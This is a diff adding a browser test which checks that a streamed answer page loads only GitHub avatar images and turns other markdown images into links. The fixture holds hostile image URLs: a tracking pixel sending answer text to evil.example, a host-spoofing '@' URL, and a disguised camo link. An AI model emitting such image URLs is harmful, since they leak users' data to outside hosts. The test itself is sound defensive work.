@@ -178,6 +178,39 @@ async def test_streamed_python_block_is_highlighted_and_finished_blocks_stay(
     assert_clean(page)
 
 
+IMAGES_ANSWER = (
+    "![the author](https://avatars.githubusercontent.com/u/583231?v=4)\n\n"
+    "![a chart](https://camo.githubusercontent.com/4a5b6c/687474703a2f2f6576696c)\n\n"
+    "![leak](https://evil.example/pixel.png?d=the-answer-so-far)\n\n"
+    "![tricky](https://avatars.githubusercontent.com@evil.example/x.png)\n\n"
+    "![a dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNg)\n"
+)
+
+
+async def test_only_avatars_load_other_images_are_links(
+    browser: Any, web_server: ServerProcess, run_log: RunLog
+) -> None:
+    run_id = await new_run(run_log)
+    writer = run_log.writer(run_id)
+    page = await open_page(browser, link(web_server, run_id))
+    await page.wait_for_selector("#connection[data-state=open]")
+    await stream(writer, IMAGES_ANSWER)
+    await writer.complete("succeeded", comment_url=COMMENT_URL)
+    await page.wait_for_selector("body[data-run-state=complete]")
+    images = page.locator("#answer img")
+    assert await images.count() == 1
+    assert await images.get_attribute("src") == "https://avatars.githubusercontent.com/u/583231?v=4"
+    links = page.locator("#answer a")
+    assert await links.evaluate_all("as => as.map(a => [a.textContent, a.host])") == [
+        ["a chart", "camo.githubusercontent.com"],
+        ["leak", "evil.example"],
+        ["tricky", "evil.example"],
+    ]
+    assert "a dot" in await visible_text(page)
+    assert "data:" not in await page.inner_html("#answer")
+    assert_clean(page)
+
+
 async def test_table_scrolls_at_390px_and_no_word_is_broken(
     browser: Any, web_server: ServerProcess, run_log: RunLog
 ) -> None:
